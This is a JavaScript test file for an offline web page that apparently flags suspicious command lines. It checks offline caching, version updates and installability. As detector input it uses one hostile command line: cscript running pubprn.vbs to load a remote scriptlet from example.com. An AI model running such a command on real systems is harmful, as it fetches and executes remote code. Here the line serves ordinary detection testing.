// The page without a network, and a newer version of it.
import assert from 'node:assert/strict';
import { cp, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { serve } from '../../scripts/serve.mjs';
import { openPage, stopAll } from './browser.mjs';
import { read, write } from './editor.mjs';

const timeout = 180_000;
const base = '/some/folder/';
const built = fileURLToPath(new URL('../../dist', import.meta.url));
after(stopAll);

const line = 'cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct';
const editor = (page) => page.getByLabel('Events: command lines or log records');
const fired = (page) => page.getByRole('region', { name: 'Verdicts' }).getByText('Pubprn', { exact: false }).first();

/** Serves a copy of the page, of which a test may make another version, and opens it. */
async function visit() {
  const folder = await mkdtemp(join(tmpdir(), 'cutout-page-'));
  await cp(built, folder, { recursive: true });
  let server = await serve(folder, { base });
  const port = Number(new URL(server.address).port);
  const opened = await openPage({ address: server.address });
  // Its files are kept once this is settled.
  await opened.page.evaluate(() => navigator.serviceWorker.ready.then(({ active }) => active.state));
  return {
    ...opened,
    folder,
    unplug: () => server.stop(),
    plugIn: async () => (server = await serve(folder, { base, port })),
    async end() {
      await opened.close();
      await server.stop().catch(() => {});
      await rm(folder, { recursive: true });
    },
  };
}

test('without a network the whole page works', { timeout }, async () => {
  const { page, unplug, end } = await visit();
  try {
    await unplug();
    await page.reload();
    await page.getByTestId('worker-state').getByText('Ready').waitFor();
    await write(editor(page), line);
    await fired(page).waitFor();
    // The editors and the figures of reach are fetched later than the page; they are there too.
    const kept = await page.evaluate(async () => {
      const names = await caches.keys();
      const cache = await caches.open(names[0]);
      return { caches: names.length, files: (await cache.keys()).map(({ url }) => url.split('/').pop()).sort() };
    });
    assert.equal(kept.caches, 1);
    const all = (await readdir(built)).filter((name) => !['index.html', 'service-worker.js'].includes(name));
    assert.deepEqual(kept.files, ['', ...all].sort());
  } finally {
    await end();
  }
});

test('a newer version is offered, and taken only when the user agrees', { timeout }, async () => {
  const { page, folder, end } = await visit();
  try {
    await page.reload(); // From here on the page comes from the files that are kept.
    await write(editor(page), line);
    await fired(page).waitFor();

    const index = await readFile(join(folder, 'index.html'), 'utf8');
    await writeFile(join(folder, 'index.html'), index.replace('<title>', '<title>Newer '));
    const script = await readFile(join(folder, 'service-worker.js'), 'utf8');
    await writeFile(join(folder, 'service-worker.js'), script.replace(/version = '\w+'/, "version = 'newer'"));
    await page.reload();
    await page.getByText('A newer version of this page is ready.').waitFor();
    assert.doesNotMatch(await page.title(), /Newer/);

    await page.getByRole('button', { name: 'Load the newer version at the next visit' }).click();
    await page.getByText('A newer version of this page is ready.').waitFor({ state: 'hidden' });
    await page.reload();
    assert.doesNotMatch(await page.title(), /Newer/, 'a reload does not force it');
    await Promise.all([
      page.waitForEvent('load'),
      page.getByRole('button', { name: 'Load it' }).click(),
    ]);
    await page.waitForFunction(() => document.title.startsWith('Newer'));
    await fired(page).waitFor();
    assert.equal(await read(editor(page)), line, 'the text is there again');
  } finally {
    await end();
  }
});

test('the page can be installed', { timeout }, async () => {
  const { page, end } = await visit();
  try {
    const manifest = await page.evaluate(async () => {
      const link = document.querySelector('link[rel=manifest]');
      const text = await (await fetch(link.href)).json();
      const icon = await fetch(new URL(text.icons[0].src, link.href));
      return { ...text, start: new URL(text.start_url, link.href).href, icon: icon.headers.get('content-type') };
    });
    assert.equal(manifest.start, page.url().split('#')[0]);
    assert.equal(manifest.display, 'standalone');
    assert.equal(manifest.icon, 'image/svg+xml');
  } finally {
    await end();
  }
});
